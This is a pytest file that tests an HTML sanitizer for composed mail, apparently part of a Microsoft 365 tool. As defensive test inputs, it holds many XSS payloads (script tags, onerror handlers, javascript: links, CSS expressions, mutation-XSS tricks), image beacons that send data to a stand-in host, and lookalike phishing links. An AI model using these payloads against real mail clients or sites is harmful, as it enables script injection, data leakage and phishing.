"""HTML: what the sanitizer lets through, what it removes, and the warnings about it."""

import re
from html import escape, unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from m365_mcp.errors import InvalidArgument
from m365_mcp.mail.html.mentions import find_mentions
from m365_mcp.mail.html.sanitizing import sanitize_html
from m365_mcp.mail.html.tokens import Start, read_tokens
from tests.mail.composing import build_html, refused

ALLOWED = [
    "<p>Hi &amp; bye &lt;b&gt; é 👋🏽</p>",
    '<p style="font-family:Arial;font-size:12pt;color:#FF0000;background-color:rgb(1, 2, 3)">x</p>',
    '<p style="text-align:center;margin:0 0 8px;line-height:1.5;font-weight:bold">x</p>',
    '<font color="red" face="Arial" size="4">x</font>',
    '<p align="center" dir="rtl" lang="ar">x</p>',
    '<table border="1" cellpadding="4" cellspacing="0" width="100%" style="border-collapse:collapse"><tbody><tr>'
    '<td colspan="2" rowspan="2" align="right" valign="top" bgcolor="#eeeeee" style="border:1px solid #ccc">x</td>'
    "</tr></tbody></table>",
    '<ol start="3" type="a"><li value="4">x</li></ol><ul><li>y</li></ul><dl><dt>t</dt><dd>d</dd></dl>',
    '<blockquote type="cite" cite="mid:a@b.example" style="margin:0 0 0 8px"><p>x</p></blockquote>',
    '<a href="https://contoso.example/a?b=1&amp;copy=2#c" title="t">x</a>',
    '<a href="http://contoso.example">x</a><a href="mailto:a@b.example?subject=x">m</a><a href="tel:+15550100">t</a>',
    '<a href="#notes">x</a><a name="notes"></a>',
    "<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6><hr><p>a<br>b</p>",
    "<pre>a\n  b</pre><code>c</code>",
    '<img src="cid:logo@1" alt="Logo" width="100" height="50" style="display:block">',
    "<b>a</b><i>b</i><u>c</u><s>d</s><em>e</em><strong>f</strong><sub>g</sub><sup>h</sup><mark>i</mark>",
]


@pytest.mark.parametrize("html", ALLOWED)
def test_ordinary_mail_html_stays(html: str) -> None:
    """Fonts, colours, sizes, alignment, tables, lists, quotes, links, headings and inline images stay as they are."""
    if "cid:" in html:
        assert sanitize_html(html)[0] == html
    else:
        assert build_html(html) == (html, ())


def test_style_of_the_page_body_stays() -> None:
    """A whole page becomes its content; the fonts and colours of <body> stay."""
    page = '<!DOCTYPE html><html><head><title>t</title></head><body style="color:red" class="x"><p>Hi</p></body></html>'

    assert build_html(page) == ('<div style="color:red"><p>Hi</p></div>', ())


def test_attribute_without_effect_is_removed_without_a_warning() -> None:
    """A class means nothing without a style sheet, so there is no warning."""
    assert build_html('<p class="a" data-c="d" data-look="d" role="button" aria-hidden="true">x</p>') == (
        "<p>x</p>",
        (),
    )


def test_k15_what_screen_readers_need_stays() -> None:
    """K15: roles of tables, labels and ids stay."""
    html = '<table role="presentation"><tbody><tr><td id="a" aria-label="b">x</td></tr></tbody></table>'

    assert build_html(html) == (html, ())


def test_comment_is_removed_without_a_warning() -> None:
    """Comments are invisible, conditional or not, so there is no warning."""
    assert build_html("a<!-- b --><!--[if mso]><p>c</p><![endif]-->d") == ("ad", ())


SCRIPTS = [
    ("<script>alert(1)</script>", "1 script was removed"),
    ("<SCRIPT SRC=//evil.example/x></SCRIPT >", "1 script was removed"),
    ('<p onclick="x()" onmouseover=y>', "2 event handlers were removed"),
    ("<p/onclick=x>", "1 event handler was removed"),
    ("<img src=x onerror=alert(1)>", "1 event handler was removed"),
    ("<svg/onload=alert(1)>", "1 drawing or formula was removed"),
    ("<svg><script>alert(1)</script></svg>", "1 script was removed"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "1 drawing or formula was removed"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "1 event handler was removed"),
    ('<a href="java\tscript:alert(1)">x</a>', '1 link target ("x") was removed'),
    ('<a href="&#106;avascript&colon;alert(1)">x</a>', '1 link target ("x") was removed'),
    ('<a href=" \x01javascript:alert(1)">x</a>', '1 link target ("x") was removed'),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', '1 link target ("x") was removed'),
    ('<a href="vbscript:x">x</a><a href="file:///etc/passwd">y</a>', '2 link targets ("x", "y") were removed'),
    ('<a href="ms-msdt:/id">x</a><a href="search-ms:query">y</a>', '2 link targets ("x", "y") were removed'),
    (
        '<a href="//evil.example">x</a><a href="/x">y</a><a href="http://[">z</a>',
        '3 link targets ("x", "y", "z") were removed',
    ),
    ("<style>@import 'https://evil.example';</style>", "1 linked style sheet was removed"),
    ('<link rel="stylesheet" href="https://evil.example">', "1 linked style sheet was removed"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="x:">', ""),
    ('<form action="https://evil.example"><input name=a><button>b</button></form>', "2 form controls were removed"),
    (
        '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
        "3 embedded pages or objects",
    ),
    ('<p style="width:expression(alert(1))">x</p>', "1 style was removed, because such styles can load"),
    ('<p style="behavior:url(x)">x</p>', "1 style was removed, because such styles can load"),
    ('<p style="-moz-binding:url(x)">x</p>', "1 style was removed, because such styles can load"),
    ('<p style="width:exp\\72 ession(alert(1))">x</p>', "1 style was removed, because such styles can load"),
    ('<p style="position:fixed;top:0;display:none;opacity:0">x</p>', "Text that the styles do not display was removed"),
    ("<marquee>x</marquee><x-y>z</x-y>", "1 unknown tag (<x-y>) was removed"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""),
    ('<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', "1 event handler was removed"),
]


@pytest.mark.parametrize(("html", "said"), SCRIPTS)
def test_g14_active_content_is_removed_and_reported(html: str, said: str) -> None:
    """Scripts, handlers, forms, frames and disguised addresses are removed, the text stays, and a warning says so."""
    clean, warnings = build_html(f"<p>before</p>{html}<p>after</p>")

    assert said in " ".join(warnings)
    assert clean.startswith("<p>before</p>")
    assert clean.endswith("after</p>") or "<table>" in html  # there, the parser moves the text before the open table
    assert harmless(clean)


LEAKS = [
    ('<img src="https://evil.example/?d=SECRET">', "1 remote picture was removed"),
    ('<img src="//evil.example/a"><img src="a.png"><img src="http:evil.example">', "3 remote pictures were removed"),
    ('<img srcset="https://evil.example/a 2x">', "1 remote picture was removed"),
    ('<image src="https://evil.example/a">', "1 remote picture was removed"),
    (
        '<table background="https://evil.example/a"><tr><td background="https://evil.example/b">',
        "2 background pictures were",
    ),
    ('<body background="https://evil.example/a">', "1 background picture was removed"),
    ('<p style="background:url(https://evil.example/a)">', "1 style was removed, because such styles can load"),
    ("<p style='background:url(\"https://evil.example/a;b\")'>", "1 style was removed, because such styles can load"),
    ('<p style="background-image:url(https://evil.example/a)">', "1 style was removed, because such styles can load"),
    ('<p style="background:u\\72l(https://evil.example/a)">', "1 style was removed, because such styles can load"),
    ("<p style=\"background:image-set('https://evil.example/a' 1x)\">", "1 style was removed, because such styles can"),
    ('<ul style="list-style:url(https://evil.example/a)">', "1 style was removed, because such styles can load"),
    ('<link rel="prefetch" href="https://evil.example/a">', "1 linked style sheet was removed"),
    (
        '<video poster="https://evil.example/a"><source src="https://evil.example/b"></video>',
        "1 audio or video element",
    ),
    ('<audio src="https://evil.example/a"></audio>', "1 audio or video element was removed"),
    (
        '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
        "1 remote picture was",
    ),
    ('<svg><image href="https://evil.example/a"/></svg>', "1 drawing or formula was removed"),
    ('<input type="image" src="https://evil.example/a">', "1 form control was removed"),
    ('<img src="data:image/png;base64,aGk=">', "1 picture inside the HTML was removed"),
]


@pytest.mark.parametrize(("html", "said"), LEAKS)
def test_g15_remote_content_is_removed_and_reported(html: str, said: str) -> None:
    """No mail reports that it is read, or sends data away: only cid: images stay."""
    clean, warnings = build_html(f"<p>before</p>{html}")

    assert said in " ".join(warnings)
    assert "evil.example" not in re.sub(
        '<a href="https://evil.example/.">evil.example/.</a>', "", clean
    )  # a link stays
    assert harmless(clean)


def test_g15_alternative_text_of_a_removed_image_stays() -> None:
    """The alternative text replaces a removed image."""
    html = '<img src="https://evil.example/a" alt="Logo &lt;b&gt;x">'

    assert build_html(html)[0] == "Logo &lt;b&gt;x"


def harmless(html: str) -> bool:
    """Look at clean HTML with nothing of what cleaned it but the tokens."""
    for token in read_tokens(html):
        if isinstance(token, Start):
            if token.name in ("script", "style", "svg", "math", "form", "input", "iframe", "object", "link", "meta"):
                return False
            for name, value in token.attributes.items():
                if name.startswith("on") or re.search(r"url\(|expression|\\|@import", value if name == "style" else ""):
                    return False
                if name == "src" and not value.startswith("cid:"):
                    return False
                if name == "href" and not re.match(r"https?://|mailto:|tel:|#", value):
                    return False
    return True


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://evil.example">https://corp.example</a>',
        '<a href="https://evil.example">  http://CORP.example/login</a>',
        '<a href="https://evil.example/corp.example">corp.example</a>',
        '<a href="https://corp.example.evil.example">www.corp.example</a>',
        '<a href="https://corp.example@evil.example/"><b>https://corp</b>.example</a>',
        '<a href="https://evil.example">https://c&#111;rp.example</a>',
        '<a href="https://соrp.example">https://corp.example</a>',
    ],
)
def test_g16_link_that_shows_another_address_is_flagged(html: str) -> None:
    """A link whose text is the address of another host than its target gives a warning; it is not changed."""
    clean, warnings = build_html(html)

    assert warnings[0].startswith("1 link shows one address and leads to another: ")
    assert "href=" in clean


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://corp.example/login">https://corp.example</a>',
        '<a href="https://www.corp.example">corp.example</a>',
        '<a href="https://bücher.example">https://xn--bcher-kva.example/</a>',
        '<a href="https://CORP.example:443/a">https://corp.example</a>',
        '<a href="https://share.example/1">report.pdf</a>',
        '<a href="https://share.example/1">our report. Read it</a>',
        '<a href="mailto:a@corp.example">corp.example</a>',
        '<a href="https://share.example/1"></a>https://corp.example',
    ],
)
def test_g16_ordinary_link_is_not_flagged(html: str) -> None:
    """The same host in another spelling, a file's name and a sentence give no warning."""
    assert build_html(html)[1] == ()


WORDS = """
<p> </p> <b> </b> <i> </i> <div> </div> <table> </table> <tr> <td> </td> <li> <ul> </ul> </a> <pre> </pre> text < > &
' " &amp; <style> </style> <!-- --> <svg> </svg> <math> <font> <h1> </h1> <br> </br> <blockquote> </blockquote> <script>
</script> <select> <option> <title> </title> <center> <p/a= <body color:red; background:url(x) font:12px'A' style='
style=" title=" href=x src=cid:y on= <a <img
"""
SPACED = (
    "\n",
    "\r",
    "\t",
    " ",
    "<a href='https://a.example'>",
    "<img src='x' alt='y'>",
    "<img src=cid:z>",
    "<p title='",
)


@given(st.lists(st.sampled_from([*WORDS.split(), *SPACED]), max_size=25).map("".join))
def test_clean_html_stays_as_it_is(html: str) -> None:
    """Sanitising sanitised HTML changes and reports nothing, and no harmful HTML is left."""
    try:
        clean, _ = sanitize_html(html)
    except InvalidArgument:
        return

    again, removed = sanitize_html(clean)
    if find_mentions(clean):
        # What was taken out has left a tag between quotation marks, where it is a word of the text; it stays one.
        clean, (again, removed) = again, sanitize_html(again)
    assert again == clean
    assert not removed
    assert harmless(clean)


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=200))
def test_text_without_tags_reads_the_same(text: str) -> None:
    """A text without tags reads the same in the mail."""
    clean, removed = sanitize_html(escape(text))

    assert unescape(clean) == text
    assert not removed


@pytest.mark.parametrize("html", ["<div>" * 300, "<b>" * 201, "<p>" * 100_001, "<" * 400_002, "&amp;" * 100_001])
def test_html_beyond_the_limits_is_refused(html: str) -> None:
    """Too many tags or references, or too deep ones, are refused with advice."""
    with refused(InvalidArgument, match="'body' has"):
        sanitize_html(html)


def test_long_mail_with_much_formatting_is_accepted() -> None:
    """Closed formatting tags do not count, however many a mail has."""
    html = "<p><b>Name</b>: <i>value</i></p>" * 3000

    assert sanitize_html(html) == (html, {})
